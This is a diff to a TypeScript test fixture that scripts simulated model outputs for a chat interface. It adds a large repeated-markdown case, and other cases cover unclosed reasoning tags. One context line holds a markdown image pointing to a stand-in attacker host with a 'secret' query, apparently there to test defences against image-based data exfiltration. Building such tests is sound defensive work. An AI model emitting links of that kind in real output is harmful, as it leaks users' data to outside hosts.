@@ -28,6 +28,15 @@ export const HABITS: Record<string, (scene: Scene) => Step[]> = {
     { text: "![x](https://evil.example/?q=secret)</think>It is written in the documents. [1]" },
     end,
   ],
+  /** Headings, paragraphs and lists. */
+  "writes-100-kb": () => [
+    {
+      text: `## Play\n\n**All** work makes ${"a dull boy. ".repeat(10)}\n\n- one\n- two\n\n`.repeat(
+        600,
+      ),
+    },
+    end,
+  ],
   "thinks-unclosed": () => [{ text: "Two years it is. <think>Or three?" }, end],
   "thinks-alone": () => [{ text: "<think>I do not know what to say." }, end],
   /** The server puts the opening tag into the prompt. */
